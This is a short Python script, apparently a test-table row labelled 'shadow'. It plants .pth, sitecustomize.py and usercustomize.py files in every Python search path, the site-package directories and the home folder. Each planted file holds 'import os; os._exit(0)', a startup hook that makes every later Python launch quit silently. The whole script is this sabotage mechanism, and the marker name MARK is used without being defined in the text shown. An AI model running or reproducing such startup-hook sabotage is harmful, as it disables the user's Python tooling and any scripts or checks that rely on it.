"""Leaves .pth files, sitecustomize and user packages in every folder that Python looks into.

row: shadow
"""
import os
import site
import sys

for folder in {*sys.path, site.getusersitepackages(), *site.getsitepackages(), os.path.expanduser("~")}:
    try:
        os.makedirs(folder, exist_ok=True)
        for name in (f"{MARK}.pth", "sitecustomize.py", "usercustomize.py"):
            with open(f"{folder}/{name}", "x") as file:
                file.write(f"import os; os._exit(0)  # {MARK}\n")
    except OSError:
        pass
